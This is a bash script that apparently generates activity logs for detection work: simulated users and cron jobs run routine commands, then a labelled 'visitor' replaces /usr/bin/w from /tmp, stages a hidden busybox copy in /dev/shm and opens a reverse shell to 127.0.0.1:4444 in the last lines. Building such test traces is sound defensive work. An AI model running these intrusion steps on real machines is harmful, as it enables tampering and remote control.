#!/bin/bash
# What people and programs do on a plain machine for MINUTES, and near the end what a visitor does. Run by `record`.
set -u
until=$((SECONDS + ${1:-15} * 60))
as() { setpriv --reuid "$1" --regid "$1" --clear-groups --inh-caps=-all env HOME="/home/$2" USER="$2" bash -c "$3" >/dev/null 2>&1; }
pause() { sleep "$1.$((RANDOM % 10))"; }
mkdir -p /home/ana /home/ben /srv/www /var/backups
chown 1000:1000 /home/ana
chown 1001:1001 /home/ben
for n in 1 2 3 4 5 6; do echo "page $n" > "/srv/www/p$n.html"; done
(cd /srv/www && exec python3 -m http.server --bind 127.0.0.1 8000 >/dev/null 2>&1) &

ana() { # writes a report, looks at the web server
  while ((SECONDS < until)); do
    case $((RANDOM % 6)) in
    0) as 1000 ana 'cd; ls -la; cat /etc/hostname; date >> notes.txt' ;;
    1) as 1000 ana 'curl -fsS http://127.0.0.1:8000/p'$((RANDOM % 6 + 1))'.html | grep -c page' ;;
    2) as 1000 ana 'cd; sort notes.txt | uniq -c | tail -n 3 > report.txt; gzip -kf report.txt' ;;
    3) as 1000 ana 'python3 -c "import json; print(json.dumps({}))"' ;;
    4) as 1000 ana 'find /home/ana -name "*.txt" -newer /etc/hostname | wc -l' ;;
    5) as 1000 ana 'cd; cp report.txt.gz old.gz; rm -f old.gz; df -h . | tail -n 1' ;;
    esac
    pause 2
  done
}
ben() { # builds something
  while ((SECONDS < until)); do
    case $((RANDOM % 5)) in
    0) as 1001 ben 'cd; mkdir -p src; echo "x=$RANDOM" > src/a.py; python3 -m py_compile src/a.py' ;;
    1) as 1001 ben 'cd; tar czf src.tgz src; tar tzf src.tgz | wc -l' ;;
    2) as 1001 ben 'cd; diff src/a.py src/a.py; sha256sum src/*.py | cut -c1-8' ;;
    3) as 1001 ben 'ps aux | head -n 4; uptime' ;;
    4) as 1001 ben 'cd; sed -i s/x/y/ src/a.py; wc -l src/a.py' ;;
    esac
    pause 2
  done
}
jobs_of_root() { # what cron would start
  while ((SECONDS < until)); do
    sh -c 'df -P / | tail -n 1 | awk "{print \$5}" > /run/disk' 2>/dev/null
    sh -c 'cp /etc/passwd /var/backups/passwd.bak && chmod 600 /var/backups/passwd.bak'
    pause 8
    sh -c 'find /var/log -name "*.gz" -mtime +30 | xargs -r rm -f; date +%s > /run/beat'
    pause 8
  done
}
ana & ben & jobs_of_root &

sleep $(((until - SECONDS) * 2 / 3))
# the visitor: a program of /usr/bin is replaced from /tmp, hides a file, and calls out
printf '#!/bin/sh\nexec /usr/bin/busybox who\n' > /tmp/.w.new
python3 -c 'import shutil; shutil.copy("/tmp/.w.new", "/usr/bin/w")'
chmod 755 /usr/bin/w
/usr/bin/w >/dev/null 2>&1
sh -c 'mkdir -p /dev/shm/.x; cp /usr/bin/busybox /dev/shm/.x/kd; /dev/shm/.x/kd id; rm -f /tmp/.w.new'
timeout 3 bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1' >/dev/null 2>&1
wait $(jobs -p | tail -n 3)
kill %1 2>/dev/null
